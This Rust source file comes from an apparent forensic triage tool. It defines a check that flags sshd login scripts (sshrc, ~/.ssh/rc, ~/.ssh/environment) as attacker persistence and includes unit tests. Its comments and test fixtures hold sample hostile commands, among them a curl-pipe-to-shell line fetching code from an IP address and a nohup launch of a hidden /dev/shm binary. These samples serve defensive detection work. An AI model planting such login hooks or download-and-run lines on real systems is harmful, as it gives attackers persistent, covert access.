//! `ssh.rc` — scripts sshd runs at every login: `/etc/ssh/sshrc`, `~/.ssh/rc`, and the
//! per-user `~/.ssh/environment`.
//!
//! **What it looks at:** whether `/etc/ssh/sshrc` exists, and for every account's home whether
//! `.ssh/rc` or `.ssh/environment` exists; the first lines are kept as evidence. sshd runs the
//! rc file through the user's shell before the session starts (unless `PermitUserRC no`), and
//! reads `environment` when `PermitUserEnvironment` is on.
//!
//! **Why an attacker leaves this trace:** an rc file is a login hook that few responders know:
//! it runs for every SSH session, including `scp` and `sftp`, and can start a beacon or log
//! credentials from the agent. Legitimate use (xauth set-up) is rare on servers.
//!
//! **Example:** `/root/.ssh/rc`: `nohup /dev/shm/.x >/dev/null 2>&1 &`.
//!
//! **Calibration:** role `foothold` (a way back in: listed among the entries still open when
//! high); critical or high only for evidence that an attacker acted, medium for what needs a
//! look, low and info for context (docs/PRECISION.md).
//!
//! **ATT&CK:** T1546 (Event Triggered Execution), T1098.004 (Account Manipulation: SSH
//! Authorized Keys).

use std::collections::HashSet;

use huoyan_core::{CheckInfo, Outcome, Severity};
use serde_json::json;

use crate::registry::Check;
use crate::Context;

/// See the module documentation.
pub struct SshRc;

static INFO: CheckInfo = CheckInfo {
    id: "ssh.rc",
    title: "Script run by sshd at every login",
    title_zh: "sshd 每次登录时执行的脚本",
    mitre: &["T1546", "T1098.004"],
    remediation: "Read the script and keep it as evidence; delete it unless an administrator \
                  can explain it, set `PermitUserRC no` (and `PermitUserEnvironment no`) in \
                  sshd_config, and look for what it started (processes, files it names).",
    remediation_zh: "阅读该脚本并保留为证据；除非管理员能说明其用途，否则删除它，并在 sshd_config 中设置 \
                     `PermitUserRC no`（及 `PermitUserEnvironment no`），排查它启动的进程与涉及的文件。",
};

const HEAD_CAP: u64 = 4096;

impl Check for SshRc {
    fn info(&self) -> &'static CheckInfo {
        &INFO
    }

    fn run(&self, ctx: &Context, out: &mut Outcome) {
        let mut targets: Vec<(String, Option<String>, Severity)> =
            vec![("/etc/ssh/sshrc".into(), None, Severity::High)];
        let mut seen = HashSet::new();
        for (user, home) in ctx.users().homes() {
            if !seen.insert(home.clone()) {
                continue;
            }
            let base = home.trim_end_matches('/');
            targets.push((
                format!("{base}/.ssh/rc"),
                Some(user.clone()),
                Severity::High,
            ));
            targets.push((
                format!("{base}/.ssh/environment"),
                Some(user),
                Severity::Medium,
            ));
        }
        for (path, user, severity) in targets {
            let meta = match ctx.root.stat(&path) {
                Ok(m) => m,
                Err(e) => {
                    out.gap_from(INFO.id, &e, true);
                    continue;
                }
            };
            let head = match ctx.root.read_capped(&path, HEAD_CAP) {
                Ok(c) => c.data,
                Err(e) => {
                    out.gap_from(INFO.id, &e, true);
                    continue;
                }
            };
            let text = huoyan_core::text::bytes_to_string(&head);
            let first = text
                .lines()
                .map(str::trim)
                .find(|l| !l.is_empty() && !l.starts_with('#'))
                .unwrap_or("")
                .to_string();
            let mut f = INFO
                .finding(
                    severity,
                    format!(
                        "{path} exists ({} bytes){}",
                        meta.size,
                        if first.is_empty() {
                            String::new()
                        } else {
                            format!(": `{first}`")
                        }
                    ),
                )
                .path(path.clone())
                .at(meta.mtime)
                .evidence(json!({
                    "path": path,
                    "size": meta.size,
                    "head": text,
                    "mtime": meta.mtime.map(huoyan_core::time::format_utc),
                    "uid": meta.uid,
                }));
            if let Some(u) = user {
                f = f.user(u);
            }
            out.add(f);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::accounts::testing::{root_with, run_default, DEBIAN_PASSWD};

    #[test]
    fn flags_rc_files() {
        let dir = root_with(&[
            ("/etc/passwd", DEBIAN_PASSWD),
            ("/root/.ssh/rc", "nohup /dev/shm/.x >/dev/null 2>&1 &\n"),
            (
                "/etc/ssh/sshrc",
                "#!/bin/sh\ncurl -s http://203.0.113.5/b | sh\n",
            ),
        ]);
        let out = run_default(&SshRc, dir.path());
        assert_eq!(out.findings.len(), 2);
        let root = out
            .findings
            .iter()
            .find(|f| f.users == vec!["root"])
            .expect("root");
        assert!(root.summary.contains("/dev/shm/.x"));
    }

    #[test]
    fn nothing_without_rc() {
        let dir = root_with(&[
            ("/etc/passwd", DEBIAN_PASSWD),
            ("/root/.ssh/known_hosts", "x\n"),
        ]);
        assert!(run_default(&SshRc, dir.path()).findings.is_empty());
    }
}
